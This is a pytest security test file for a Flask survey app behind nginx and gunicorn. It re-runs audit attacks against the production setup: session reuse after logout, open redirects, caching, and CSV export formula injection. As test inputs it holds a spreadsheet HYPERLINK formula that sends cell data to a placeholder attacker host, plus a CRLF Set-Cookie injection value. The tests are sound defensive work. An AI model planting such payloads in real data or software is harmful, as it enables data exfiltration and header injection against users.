"""The breaks of the audit (issue 16) tried again against the app as it is served in production:
nginx with deploy/nginx.conf terminating TLS in front of gunicorn, over real HTTPS. The same
attacks are tested in detail through the Flask test client (tests/web); here they must hold in
the production shape too, where headers, cookies and buffering are nginx's and gunicorn's.
"""
from __future__ import annotations

import csv
import io
import os
import shutil
from collections.abc import Iterator

import pytest

from tests.browser.nginx_proxy import SERVER_NAME, LoopbackHTTPS, NginxProxy, analyst_account, production, require_production_shape
from tests.load.load_client import SLUG, Respondent, Server

pytestmark = pytest.mark.load

ANALYST, PASSWORD = "analyse@musterstadt.example", "ein langes Test-Passwort 7"
EXPORT = f"/staff/q/{SLUG}/export.csv"
FORMULAS = ["a;=1+41;b", '=HYPERLINK(CHAR(104)&"ttps://evil.example/?"&A2;"Hilfe")', "\uff1d1+1"]


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, NginxProxy]]:
    require_production_shape()

    with production(tmp_path_factory.mktemp("attacks"), before_start=analyst_account(ANALYST, PASSWORD)) as shape:
        yield shape


def browser(proxy: NginxProxy, address: str, lang: str = "de") -> Respondent:
    return Respondent(proxy.https_port, lang, connect=lambda: LoopbackHTTPS(SERVER_NAME, proxy.https_port, source=address))


def logged_in(proxy: NginxProxy, address: str) -> Respondent:
    staff = browser(proxy, address)
    staff.get("/staff/login")
    assert staff.post("/staff/login", {"email": ANALYST, "password": PASSWORD}, follow=False).status == 302
    return staff


def test_a_session_cookie_copied_before_logout_opens_nothing_after_it(served):
    _server, proxy = served
    analyst = logged_in(proxy, "127.0.0.50")
    thief = browser(proxy, "127.0.0.51")
    thief.cookies = dict(analyst.cookies)
    assert thief.request("GET", EXPORT, follow=False).status == 200  # the copy works while the session lives
    analyst.get("/staff/")
    assert analyst.post("/staff/logout", {}, follow=False).status == 302
    refused = thief.request("GET", EXPORT, follow=False)
    assert refused.status == 302 and refused.headers["location"].startswith("/staff/login")


@pytest.mark.parametrize("target", ["/staff/\r\nSet-Cookie: injected=1", "//evil.example/staff/"])
def test_a_hostile_redirect_target_leads_to_the_staff_start(served, target):
    _server, proxy = served
    staff = browser(proxy, "127.0.0.52")
    staff.get("/staff/login")
    answer = staff.post("/staff/login", {"email": ANALYST, "password": PASSWORD, "next": target}, follow=False)
    assert answer.status == 302 and answer.headers["location"] == "/staff/"
    assert "injected" not in staff.cookies


def test_exports_and_respondent_pages_are_kept_by_no_browser(served):
    _server, proxy = served
    analyst = logged_in(proxy, "127.0.0.53")
    for path in ("/staff/", EXPORT, f"/staff/q/{SLUG}/results/aggregate.csv"):
        page = analyst.request("GET", path, follow=False)
        assert page.status == 200 and page.headers["cache-control"] == "no-store", path
    phone = browser(proxy, "127.0.0.54", "ar")
    for path in (f"/s/{SLUG}/", f"/s/{SLUG}/ar/", f"/s/{SLUG}/ar/resume"):
        page = phone.request("GET", path, follow=False)
        assert page.headers["cache-control"] == "no-store", path


def test_formulas_in_answers_stay_text_in_the_downloaded_csv(served, tmp_path):
    """The CSV as it arrives through nginx: every formula-like answer is quoted and neutralised;
    LibreOffice (German locale) opens it with either separator without finding a formula."""
    _server, proxy = served
    for number, formula in enumerate(FORMULAS):
        phone = browser(proxy, f"127.0.0.{60 + number}")
        assert phone.complete(formula)
        phone.close()
    analyst = logged_in(proxy, "127.0.0.55")
    download = analyst.request("GET", EXPORT, follow=False)
    assert download.status == 200
    rows = list(csv.reader(io.StringIO(download.body.lstrip("\ufeff")), delimiter=";"))  # German Excel's, the default
    comments = [row[rows[0].index("comments")] for row in rows[1:]]
    assert sorted(comments) == sorted("'" + formula if formula[0] in "=\uff1d" else formula.replace(";=", ";'=") for formula in FORMULAS)
    soffice = shutil.which("soffice")
    if soffice is None:
        if os.environ.get("SURVEY_REQUIRE_OFFICE") == "1":
            pytest.fail("LibreOffice is not installed (make test installs it)")
        return
    from tests.web.test_spreadsheets_keep_data import _open_in_libreoffice

    (tmp_path / "served.csv").write_bytes(download.body.encode("utf-8"))
    for separator in ("comma", "semicolon"):
        sheet = _open_in_libreoffice(soffice, [tmp_path / "served.csv"], separator, tmp_path / separator)["served.csv"]
        assert not [value for row in sheet for value in row if str(value).startswith("FORMULA")], separator


def test_wrong_logins_at_the_same_time_keep_no_respondent_waiting(served):
    """Argon2 (a quarter of a second a password, production parameters here) once ran while the
    login held SQLite's write lock: two concurrent wrong logins gave ten respondents "try again"
    pages. Now the hash is computed with no transaction open."""
    from concurrent.futures import ThreadPoolExecutor

    _server, proxy = served

    def guess(address: str) -> list[int]:
        return [browser_login(proxy, address, f"nobody{n}@musterstadt.example") for n in range(5)]

    def respondent(number: int) -> int:
        phone = browser(proxy, f"127.0.0.{100 + number}")
        try:
            phone.begin()
            phone.answer_pages(f"while-guessing-{number}", upto=2)
            return phone.page.status
        finally:
            phone.close()

    with ThreadPoolExecutor(max_workers=12) as pool:
        guesses = [pool.submit(guess, address) for address in ("127.0.0.90", "127.0.0.91")]
        statuses = list(pool.map(respondent, range(10)))
        assert [status for future in guesses for status in future.result()] == [401] * 10
    assert statuses == [200] * 10  # every respondent on her third page, none on a retry page


def browser_login(proxy: NginxProxy, address: str, email: str) -> int:
    staff = browser(proxy, address)
    try:
        staff.get("/staff/login")
        return staff.post("/staff/login", {"email": email, "password": "wrong password!"}, follow=False).status
    finally:
        staff.close()
